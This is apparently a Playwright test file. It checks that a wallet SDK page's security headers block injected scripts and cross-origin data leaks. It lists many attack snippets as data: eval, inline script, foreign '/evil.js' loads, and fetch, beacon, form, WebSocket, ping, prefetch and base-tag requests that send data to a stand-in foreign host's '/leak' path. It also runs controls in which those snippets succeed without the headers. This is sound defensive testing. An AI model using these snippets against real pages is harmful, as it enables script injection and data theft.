import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createDocuments } from '../../../../frame/server/documents/createDocuments'
import { openBrowser } from '../../../browser'
import { temporaryFolder } from '../databases'
import { serve } from '../serve'
import { appOf, documentsOf, listen, siteOf } from './site'

/**
 * What a site's script would do that an attacker got to run, or to write into its page. Each
 * resolves with whether it worked.
 */
const attacks = {
  'inline script': `const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script); return window.ran === 1`,
  innerHTML: `document.body.innerHTML = '<b id="in">x</b>'; return !!document.querySelector('#in')`,
  eval: `return (0, eval)('1 + 1') === 2`,
  'script of another origin': `const script = document.createElement('script'); const done = new Promise((resolve) => { script.onload = () => resolve(true); script.onerror = () => resolve(false) }); script.src = FOREIGN + '/evil.js'; document.head.append(script); return done`,
  'own script without its digest': `const script = document.createElement('script'); const done = new Promise((resolve) => { script.onload = () => resolve(true); script.onerror = () => resolve(false) }); script.src = '/a/other.js?again'; document.head.append(script); return done`,
  'worker of a blob': `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); return new Promise((resolve) => { worker.onmessage = () => resolve(true); worker.onerror = () => resolve(false) })`,
  'service worker': `await navigator.serviceWorker.register('/a/other.js'); return true`,
  'fetch elsewhere': `return (await fetch(FOREIGN + '/leak?fetch', { mode: 'no-cors' })).type === 'opaque'`,
  'beacon elsewhere': `navigator.sendBeacon(FOREIGN + '/leak?beacon', 'x'); return undefined`,
  'picture elsewhere': `const image = new Image(); const done = new Promise((resolve) => { image.onload = () => resolve(true); image.onerror = () => resolve(false) }); image.src = FOREIGN + '/picture.svg'; document.body.append(image); return done`,
  'form elsewhere': `const form = document.createElement('form'); const frame = document.createElement('iframe'); frame.name = 'out'; document.body.append(frame); form.target = 'out'; form.action = FOREIGN + '/leak?form'; document.body.append(form); form.submit(); return undefined`,
  'socket elsewhere': `return new Promise((resolve) => { const socket = new WebSocket(FOREIGN.replace('http', 'ws') + '/leak'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(undefined) })`,
  'style elsewhere': `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = FOREIGN + '/leak?style'; const done = new Promise((resolve) => { link.onload = () => resolve(true); link.onerror = () => resolve(false) }); document.head.append(link); return done`,
  'prefetch elsewhere': `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: FOREIGN + '/leak?prefetch' })); return undefined`,
  'ping of a link elsewhere': `const link = Object.assign(document.createElement('a'), { href: '#', ping: FOREIGN + '/leak?ping' }); document.body.append(link); link.click(); return undefined`,
  'stream of events elsewhere': `new EventSource(FOREIGN + '/leak?events'); return undefined`,
  'frame elsewhere': `document.body.append(Object.assign(document.createElement('iframe'), { src: FOREIGN + '/leak?frame' })); return undefined`,
  'object elsewhere': `document.body.append(Object.assign(document.createElement('object'), { data: FOREIGN + '/leak?object' })); return undefined`,
  'video elsewhere': `document.body.append(Object.assign(document.createElement('video'), { src: FOREIGN + '/leak?video', preload: 'auto' })); return undefined`,
  'own paths led elsewhere': `const base = Object.assign(document.createElement('base'), { href: FOREIGN + '/leak?base' }); document.head.append(base); const led = document.baseURI.startsWith(FOREIGN); base.remove(); return led`,
  'address of a script': `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location.href = 'javascript:parent.led = 1'; await new Promise((resolve) => setTimeout(resolve, 50)); return window.led === 1`,
  'module of a text': `return (await import('data:text/javascript,export const ran = true')).ran`,
  'text in a timer': `setTimeout('window.late = 1'); await new Promise((resolve) => setTimeout(resolve, 50)); return window.late === 1`,
} as const

/**
 * What the keys’ worker would do that got another script in: its policy comes with its own file.
 */
const workerAttacks = {
  'a worker’s fetch elsewhere': `return (await fetch(FOREIGN + '/leak?worker', { mode: 'no-cors' })).type === 'opaque'`,
  'a worker’s socket elsewhere': `return new Promise((resolve) => { const socket = new WebSocket(FOREIGN.replace('http', 'ws') + '/leak'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(undefined) })`,
  'a worker’s stream of events elsewhere': `new EventSource(FOREIGN + '/leak?events'); return undefined`,
  'a worker’s eval': `return (0, eval)('1 + 1') === 2`,
  'a worker’s module of another origin': `await import(FOREIGN + '/evil.js'); return true`,
  'a worker’s module of a text': `return (await import('data:text/javascript,export const ran = true')).ran`,
} as const

let browser: Browser
let foreign: Awaited<ReturnType<typeof listen>>
/** Paths that the other origin was asked for. */
const leaked: string[] = []
/** The origin of the server itself. */
let wallet: { readonly origin: string }
let weak: Awaited<ReturnType<typeof listen>>
let shop: Awaited<ReturnType<typeof listen>>
let stranger: Awaited<ReturnType<typeof listen>>

/** A page that frames the document of a site. */
const hostOf = (frame: () => string) => () =>
  new Response(`<!doctype html><iframe src="${frame()}" width="300" height="200"></iframe>`, {
    headers: { 'content-type': 'text/html' },
  })

beforeAll(async () => {
  browser = await openBrowser()
  foreign = await listen((request) => {
    const { pathname, search } = new URL(request.url)
    leaked.push(pathname + search)
    const type = pathname.endsWith('.svg')
      ? 'image/svg+xml'
      : pathname.endsWith('.js')
        ? 'text/javascript'
        : 'text/css'
    return new Response(
      pathname.endsWith('.svg')
        ? '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
        : '',
      { headers: { 'content-type': type, 'cross-origin-resource-policy': 'cross-origin' } },
    )
  }, 'foreign')
  const tableOf = (all: Readonly<Record<string, string>>) =>
    Object.entries(all)
      .map(([name, body]) => `${JSON.stringify(name)}: async (FOREIGN) => { ${body} }`)
      .join(', ')
  const work = `const attacks = { ${tableOf(workerAttacks)} }; onmessage = ({ data: [name, foreign] }) => attacks[name](foreign).then(postMessage, (error) => postMessage(String(error)))`
  const inWorker = Object.keys(workerAttacks)
    .map(
      (name) =>
        `${JSON.stringify(name)}: (FOREIGN) => new Promise((resolve) => { const worker = new Worker(address, { type: 'module' }); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => resolve('no worker'); worker.postMessage([${JSON.stringify(name)}, FOREIGN]) })`,
    )
    .join(', ')
  const site = siteOf(
    `const address = trustedTypes.createPolicy('tessera', { createScriptURL: (path) => path }).createScriptURL('/a/work.js'); window.attacks = { ${tableOf(attacks)}, ${inWorker} }; window.ready = import('/a/lazy.js').then(({ loaded }) => loaded)`,
    {
      '/a/lazy.js': 'export const loaded = true',
      '/a/other.js': 'self.other = 1',
      '/a/work.js': work,
    },
  )
  shop = await listen(
    hostOf(() => `${wallet.origin}/sdk?projectId=shop`),
    'shop',
  )
  stranger = await listen(
    hostOf(() => `${wallet.origin}/sdk?projectId=shop`),
    'stranger',
  )
  const apps = [appOf({ origins: [shop.origin] })]
  const { url } = await serve({
    database: { folder: temporaryFolder() },
    config: { publicUrl: 'http://wallet.localhost:0', apps },
    options: { modules: [(services) => createDocuments(services, site)] },
  })
  wallet = { origin: url }
  // the control: the same documents without their headers, which say how they are compressed
  weak = await listen(async ({ url }) => {
    const answer = await documentsOf(site, apps, () => wallet.origin).fetch(new Request(url))
    return new Response(await answer.arrayBuffer(), {
      status: answer.status,
      headers: { 'content-type': answer.headers.get('content-type') ?? '' },
    })
  }, 'weak')
})
afterAll(async () => {
  await browser?.close()
  for (const server of [foreign, weak, shop, stranger]) server?.close()
})

const inFrame = async (page: Page, host: string): Promise<Frame | undefined> => {
  await page.goto(host)
  return page.frames().find((frame) => frame.url().includes('/sdk'))
}
const isLoaded = (frame: Frame | Page) =>
  frame.evaluate(() => (window as { ready?: Promise<boolean> }).ready).catch(() => undefined)

describe('framing', () => {
  test('a page of the app shows it, and its script and what that imports run', async () => {
    const page = await browser.newPage()
    const frame = await inFrame(page, shop.origin)
    expect(frame && (await isLoaded(frame))).toBe(true)
    await page.close()
  })

  test('a page of another origin does not; control: without the headers it does', async () => {
    const page = await browser.newPage()
    const frame = await inFrame(page, stranger.origin)
    expect(frame && (await isLoaded(frame))).toBeFalsy()
    const control = await listen(
      hostOf(() => `${weak.origin}/sdk?projectId=shop`),
      'control',
    )
    const open = await inFrame(page, control.origin)
    expect(open && (await isLoaded(open))).toBe(true)
    control.close()
    await page.close()
  })
})

describe('a script that got in', () => {
  const pages = new Map<string, Page>()
  const pageOf = async (origin: string) => {
    const page = pages.get(origin) ?? (await browser.newPage())
    if (!pages.has(origin)) await page.goto(`${origin}/sdk?projectId=shop`)
    pages.set(origin, page)
    await isLoaded(page)
    return page
  }

  /**
   * Runs an attack of the site's script from a timer: what a debugger runs itself is not under the
   * page's policy.
   */
  const attempt = async (origin: string, name: string) => {
    leaked.length = 0
    const page = await pageOf(origin)
    const outcome = await page.evaluate(
      ([attack, address]) =>
        new Promise<unknown>((resolve) => {
          const { attacks } = window as unknown as {
            attacks: Record<string, (foreign: string) => Promise<unknown>>
          }
          setTimeout(() =>
            attacks[attack as string]?.(address as string).then(resolve, (error) =>
              resolve(String(error)),
            ),
          )
        }),
      [name, foreign.origin],
    )
    // what says nothing may still be on its way
    if (typeof outcome !== 'boolean') await page.waitForTimeout(300)
    return { worked: outcome === true, leaked: [...leaked], outcome }
  }

  test.each(Object.keys({ ...attacks, ...workerAttacks }))(
    '%s is refused; control: without the headers it works',
    async (name) => {
      const refused = await attempt(wallet.origin, name)
      expect(refused).toMatchObject({ worked: false, leaked: [] })
      expect(refused.outcome).not.toBe('no worker')
      const control = await attempt(weak.origin, name)
      expect(control.worked || control.leaked.length > 0, JSON.stringify(control)).toBe(true)
    },
  )
})
